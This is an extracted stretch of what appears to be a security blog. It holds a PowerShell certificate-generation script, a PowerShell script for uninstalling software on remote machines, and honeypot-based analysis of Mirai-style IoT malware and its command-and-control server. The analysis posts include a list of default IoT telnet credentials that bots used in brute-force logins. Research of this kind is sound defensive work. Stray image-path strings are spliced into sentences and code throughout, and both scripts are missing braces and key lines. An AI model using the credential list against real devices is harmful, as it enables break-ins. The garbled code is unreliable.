    $serverName = Read-Host "What is the Server Name of the Server? "
    $domainName = Read-Host "What is the Domain Name of the Server? "
    $serverName = $serverName.ToUpper()
    $serverName = "$serverName.$domainName"Write-Host $serverName
    if ($serverName) {
        Write-Host "What is the duration of time to set for the certificate?"
        Write-Host "1. 12 Months"
        Write-Host "2. 24 Months"
        Write-Host "3. 36 Months (Default)"
        $timeInput = Read-Host "Duration (3)"
        if ($timeInput -eq "1") { $timeSelected = 12 }
        elseif ($timeInput -eq "2") { $timeSelected = 24 }
        else { $timeSelected = 36 }
        $addResponse = Read-Host "Specify additional FQDN or DNS entries for certificate (No is default)"
        if (($addResponse -eq "Yes") -or ($addResponse -eq "yes") -or ($addResponse -eq "y")) {$addNames = Read-Host "Additional FQDN or DNS entries seperated with a comma"
            $dnsNames = "$serverName, $addNames"
        else {
            $dnsNames = $serverName
        # Get the Generated Root CA's thumbprint that we generated
        $rootCA = (Get-ChildItem -Path Cert:\LocalMachine\My\$Thumbprint)
        New-SelfSignedCertificate -KeyExportPolicy Exportable -Subject "CN=$serverName" -DnsName $dnsNames -CertStoreLocation Cert:\LocalMachine\My -NotAfter (Get-Date).AddMonths($timeSelected) -Signer $rootCA -KeySpec KeyExchange -KeyUsageProperty All
    else {
        Write-Host "The FQDN of the Server needs to be Specified"

function Show-Menu
    $input = "a"
    $rootCAThumbprint = "0"
        Write-Host "===Self-Signed Certificate Management==="
        Write-Host "1. Generate Root Certificate"
        Write-Host "2. Select Root Certificate to Use"
        Write-Host "3. Create Server or Client Certificate(s) with Root Certificate"
        if ($rootCAThumbprint -ne "0") {
            Write-Host "Selected Root Certificate is:"
            $currentCert = Get-ChildItem Cert:\LocalMachine\my | Where-Object {$_.Thumbprint -eq $rootCAThumbprint }
            Write-Host Subject: $currentCert.Subject
            Write-Host Thumbprint: $currentCert.Thumbprint
        Write-Host "Q. Quit"
        $input = Read-Host "Selection: "
        switch ($input)
            '1' {
                    $rootCAThumbprint = Generate-RootCert
            '2' {
                    $rootCAThumbprint = Select-RootCert
            '3' {
                    if ($rootCAThumbprint -ne "0") {
                        Create-ServerCert -Thumbprint $rootCAThumbprint
                    else {
                        Write-Host "No Root CA has been generated or selected." -ForegroundColor Red
    } until (($input -eq 'q') -or ($input -eq 'Q'))


Saturday, February 11, 2017Powershell - Uninstall Packages Remotely

Recently I have been contemplating how I could more efficiently uninstall or view packages that a user has installed on their computer and then uninstall those packages remotely without having to take the time of the user to do so through a remote interactive session.

I have written the below Powershell script which will prompt you for the computers name or IP Address that you are working with.  Then it will display the installed programs (Notice in the script you can filter by a package name like Java).  Then you can call the package or packages you would like to uninstall by its name.  If your user account is recognized as a local administrator on the computer you should not have an issue.  It does allow you to use other credentials if necessary.

#Powershell program to remove packages that are specified by the user

function remove-Package($package, $compName, $credName) {
    If ($credName -eq $env:USERNAME) {
        $s = Get-WmiObject -Class Win32_Product -ComputerName $compName | Where-Object { $_.Name -match $package }
    Else {$s = Get-WmiObject -Class Win32_Product -ComputerName $compName -Credential $credName | Where-Object { $_.Name -match $package }
    If ($s) {
        Write $s | Format-Table Name, Version, IdentifyingNumber
        $uninstallPrompt = Read-Host -Prompt "Uninstall the above package(s) (y/n)"
        If ($uninstallPrompt -eq "Y" -or $uninstallPrompt -eq "y") {
        Else {
            Write "Aborted uninstall..."
    Else {
        Write "Error uninstalling $package"

# Remote Computer Selection or . for localhost
Write ""
Write "This program is designed to display a list of applications on a computer,"
Write "allow you to choose which one to uninstall, and then uninstall it without"
Write "having to interact with the user."
Write ""
$cName = Read-Host -Prompt "Target Computer Name or IP Address (. for localhost)"
$uPrompt = Read-Host -Prompt "Use your account to connect to remote computer (y/n)"
If ($uPrompt -eq "Y" -or $uName -eq "y") {
    $uName -eq $env:USERNAME
Else {
    $uName = Read-Host -Prompt "Enter Username to Use"

# List all packages on the computer
If ($uName -eq $env:USERNAME) {
    #$all = Get-WmiObject -Class Win32_Product -Filter "Name LIKE '%Java%'"
    $all = Get-WmiObject -Class Win32_Product -ComputerName $cNameElse {
    #$all = Get-WmiObject -Class Win32_Product -Filter "Name LIKE '%Java%'"
    $all = Get-WmiObject -Class Win32_Product -ComputerName $cName -Credential $uName
If ($all) {
    Write $all | Sort Name, Version | Format-Table Name, Version
    Write ""
    $userInput = Read-Host -Prompt "Uninstall a Package Listed Above (y/n)"


        If ($userInput -eq "Y" -or $userInput -eq "y") {
            $packageInput = Read-Host -Prompt "Copy or Type the Name of the Package as shown above to Uninstall"
            remove-Package -package $packageInput -compName $cName -credName $uName

        If ($userInput -eq "Y" -or $userInput -eq "y") {
            $userInput = Read-Host -Prompt "Uninstall another Package (y/n)"

    } While ($userInput -eq "Y" -or $userInput -eq "y")Thursday, November 24, 2016

IoT Malware Analysis - CnC Server - Part 3

Through the information gathered inside of the binaries I began searching for unique strings on Google.  One of the unique strings that I searched for was "HTTPFLOOD GHP".  This pulled back less than 10 results and the first one was from the site hxxp://  Thiscontained the source code for what they called "Palkia Server.c".

This particular piece of source code was found to have been leaked on 2016-11-12 09:58:05 according to the timestamp on the paste.  I have not validated that the binary in which I found the string matches up with this particular CnC Server source code.

After looking at the source code and understanding the logic, verifying there were no backdoors and other intents to infect my systems I compiled the source code on a temporary server.  Upon execution you need to specify which port it listens on for the bot connections and the number of threads it will utilize.

After you specify the port and the number of threads it begins to listen for clients.  If aclient connects the first command that it sends is a command to the client to enable the scanning of other devices through telnet.

Then the server will keep in contact with the bot by sending the string "PING" every 60 seconds.  I have noticed that some bots will receive the communication at an interval as small as 15 seconds.

Through the source code you learn that the bot can send commands back to the server that are interpreted.

From the source code you can see 3 commands that the bot can send back: PING, REPORT, and PONG.  If the bot sends PING then the CnC server will respond with PONG.  If the bot sends "REPORT " + up to 2048 characters it will store the sent information in a file called telnet.txt.  If PONG is sent it will do nothing butcontinue in the loop.  Then if anything sent to the CnC does not match these 3 commands it will output it to stdout on the CnC Server with "buf:" appended to the beginning of it.

The other side of this source code is running an administration console so the bots can be controlled.  You can see in the source code that the server by default runs on port 777.

Appears that if you connect to this port you are prompted for a username.  The username and eventually password is parsed out of a file called savage.txt.  They are formatted with username, aspace, and then the password.

I created this file with a test user and then a test2 user with a respective password following.  After feeling I understood the logic of the application I compiled it and ran it on a temporary server.  This allowed me to connect with a username and password.  Then from the source code you learn you can send the command "!* HELP" and it will display a quick help screen as shown below.

From the above screenshot you can see that the Attack Commands instruct the bots to conduct UDP, TCP or HTTP floods.  The KILLATTK instructs the bots to stop the attacks that they are instructed to conduct.  As someone is in the CnC Server their commands are broadcast to the bots with exception to a few.

As commands are executed in the administration side of the server they are saved to a file called server.log.

I have placed the source code for the palkia server on my github page for further research along with the telnet emulator and a botEmulator.

Have a Happy Thanksgiving! Enjoy the Turkey!!Wednesday, November 16, 2016

IoT Malware Analysis - Observations and Statistics - Part 2

On the previous post that I published I utilized a python program to emulate a telnet server, captured commands that were sent to the telnet server, and then utilized those commands to research the binaries that were collected.

In this post I am going to provide information on what happened when 2 of my servers became infected with the malware, statistics on the username and password combinations used, and statistics of which IP Addresses I observed the most attempting to login to my telnet server.

The Mirai botnet gains its popularity in causing Distributed Denial of Service (DDoS) attacks.  This is exactly what happened to both of my honeypot servers that were infected.

As you can see in the above screenshot upon initial infection of the server you see the command "SCANNER ON".  This command causes the infected device to begin scanning for other IP Addresses at random to see if port 23 is open.  If the device can be reached over port 23 then a basic script of logging in, sending 3-4 commands and then the commands cause the device to become infected as described in the previous post.

After a short period of time the infected server stopped scanning, I observed the following commands come from 2 different honeypots that were infected:

The first instance sent traffic to over UDP to port 80.  The secondinstance sent traffic to over UDP to port 3074.  In the first command you notice the number 65500.  As you can see in the below image it filled the packets with 65,500 random ASCII characters and sent them to the receiving IP.

The second instance you will notice a 0.  This sent packets that were empty to the IP address.

Bothinstances where the infected servers were utilized I rebooted them as soon as I observed them being utilized in a denial of service attack, however that still provided me with almost 4 GB of pcap data.  To take a quick tangent, I utilized tshark to carve the pcap files.  Below are a few commands that I used:

1. "tshark -r output.pcap -T fields -e ip.src  -e ip.dst -e tcp.dstport | sort | uniq -c | sort -n > freq_analysis.txt" - This command would read the source IP Address, destination IP Addresses and the destination port then sort it, combine all of the duplicates with a count of the occurrences, and then sort the count of occurrences numerically.

2. "editcap -r read.pcap output.pcap 500-1000" - Due to the mass amounts of traffic generated as the host participated in a denial of service, I utilized editcap to pull out of the pcap packets 500-1000.  This was so I could get a sample of the packets being sent to the target involved in the denial of service.

I do publicly apologize to the 2 IP Addresses that were targeted from my honeypot.  I tried to shutdown the execution of the denial of service attack as soon as I observed it occurring.

Below are the usernames and passwords that I observed logging into my honeypot.  The first number is how manytimes the combination of the username and password appeared in the logs of my honeypot:

9637 root:xc3511
9567 root:vizxv
8532 root:admin
7897 admin:admin
6856 root:888888
5569 root:xmhdipc
5341 root:juantech
4927 support:support
4598 root:default
4393 root:
4321 root:anko
4268 root:123456
4100 root:54321
3668 root:root
3655 admin:password
3523 root:12345
2835 admin:
2822 admin:smcadmin
2730 admin:admin1234
2680 root:pass2642 user:user
2476 root:hi3518
2367 root:1111
2208 root:password
2055 admin:1111
2022 root:666666
1742 root:1234
1538 guest:12345
1247 root:hunt5759
1230 root:GM8182
1201 root:dreambox
1201 root:7ujMko0vizxv
1118 admin:pass
1107 root:00000000
1102 root:Zte521
1089 root:klv1234
1088 service:service
1073 administrator:1234
1069 admin:54321
1062 root:jvbzd
1005 root:klv123
1001 admin:meinsm
991 supervisor:supervisor
987 ubnt:ubnt
967 root:7ujMko0admin
939 root:ikwb
916 admin:1111111
897 tech:tech
896 admin:4321
895 root:zlxx.
882 admin1:password
875 888888:888888
866 guest:guest
864 Administrator:meinsm
859 root:realtek
843 root:user
839 admin:1234
834 admin:123456
829 666666:666666
817 root:system
811 admin:12345
783 admin:7ujMko0admin
439 root:1001chin
357 user:qweasdzx
331 netgear:netgear
185 root:zlxx
169 admin:cat1029
168 realtek:realtek
150 telnet:telnet
98 root:5up
95 root:telnet
33 root:tl789
31 Admin:1234
23 cisco:cisco19 root:admin@mymifi

Here are the most frequent IP Addresses and how many times a particular IP Address appeared in the logs:


I have collected a log entry from 2,654 IP Addresses so far in my research.  Understanding that some of these IP Addresses are dynamic and the party utilizing the IP changes frequently, I found that 758 were listening onport 23.  I found this to be interesting that of the IP Addresses 28.56% were listening on port 23.  I would think that this number would be above 60% of the scanned devices.  Also I found interesting that some of the IP Addresses that most frequently hit my botnet were not listening on port 23.

Also I conducted a host lookup on the 2,654 IP Addresses to see if they resolved to a reverse DNS name.  I utilized the command "host <ip address>":
1578 - Resolved to a reserve DNS name
73 - Directed to localhost (Blackholed)
52 - DNS connection timed out

Docker - Quick Notes and How To

